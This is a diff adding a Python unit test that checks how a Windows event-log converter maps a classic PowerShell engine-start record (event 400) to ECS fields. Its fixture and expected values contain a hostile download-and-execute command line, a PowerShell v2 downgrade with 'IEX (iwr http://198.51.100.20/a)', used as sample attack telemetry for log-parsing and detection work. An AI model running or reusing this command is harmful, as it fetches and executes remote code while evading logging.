@@ -258,3 +258,44 @@ def test_security_records_as_the_evtx_package_renders_them() -> None:
         "winlog.user_data.xml_name": "LogFileCleared",
         "winlog.user_data.SubjectUserName": "admin.sotn", "user.name": "admin.sotn",
         "event.action": "audit-log-cleared", "winlog.user.identifier": "S-1-5-18"}
+
+
+ENGINE_400 = ("\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n"
+              "\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=2.0\r\n"
+              "\tHostId=8d4a0c3e-7d7a-4a8e-9b61-0a8e5f5b2c11\r\n"
+              "\tHostApplication=powershell.exe -Version 2 -nop -c IEX (iwr http://198.51.100.20/a)"
+              "\r\n\tEngineVersion=2.0\r\n\tRunspaceId=3f9e1c22-61a7-4e0b-8d3e-5d0f3b6e7a44\r\n"
+              "\tPipelineId=\r\n\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n"
+              "\tCommandPath=\r\n\tCommandLine=")
+
+
+def test_classic_powershell_records_as_the_evtx_package_renders_them() -> None:
+    """Windows PowerShell's events hold their fields in unnamed <Data> elements (param1-3 here,
+    as Winlogbeat names them); the third is Key=Value lines."""
+    started = evtx_to_ecs({"Event": {
+        "System": {
+            "Provider": {"#attributes": {"Name": "PowerShell"}},
+            "EventID": {"#attributes": {"Qualifiers": 0}, "#text": 400}, "Version": 0,
+            "Level": 4, "Task": 4, "Opcode": 0, "Keywords": "0x80000000000000",
+            "TimeCreated": {"#attributes": {"SystemTime": "2026-11-22T02:19:58.120000Z"}},
+            "EventRecordID": 5012, "Channel": "Windows PowerShell",
+            "Computer": "ws-tn-015.sotn.gov.vn", "Security": None},
+        "EventData": {"Data": {"#text": ["Available", "None", ENGINE_400]}, "Binary": None}}})
+    expected = {
+        "event.dataset": "windows.windows_powershell", "event.code": "400",
+        "winlog.provider_name": "PowerShell", "winlog.keywords": ["Classic"],
+        "event.category": ["process"], "event.type": ["start"], "event.action": None,
+        "winlog.event_data.param1": "Available", "winlog.event_data.param3": ENGINE_400,
+        "winlog.event_data.Data": ["Available", "None", ENGINE_400],
+        "process.command_line": "powershell.exe -Version 2 -nop -c IEX "
+                                "(iwr http://198.51.100.20/a)",
+        "process.title": "ConsoleHost",
+        "process.entity_id": "8d4a0c3e-7d7a-4a8e-9b61-0a8e5f5b2c11",
+        "powershell.engine.version": "2.0", "powershell.engine.new_state": "Available",
+        "powershell.engine.previous_state": "None",
+        "powershell.process.executable_version": "2.0",
+        "powershell.runspace_id": "3f9e1c22-61a7-4e0b-8d3e-5d0f3b6e7a44",
+        "powershell.pipeline_id": None, "powershell.command.value": None,
+        "event.sequence": 13, "file.path": None,
+    }
+    assert {key: started.get(key) for key in expected} == expected
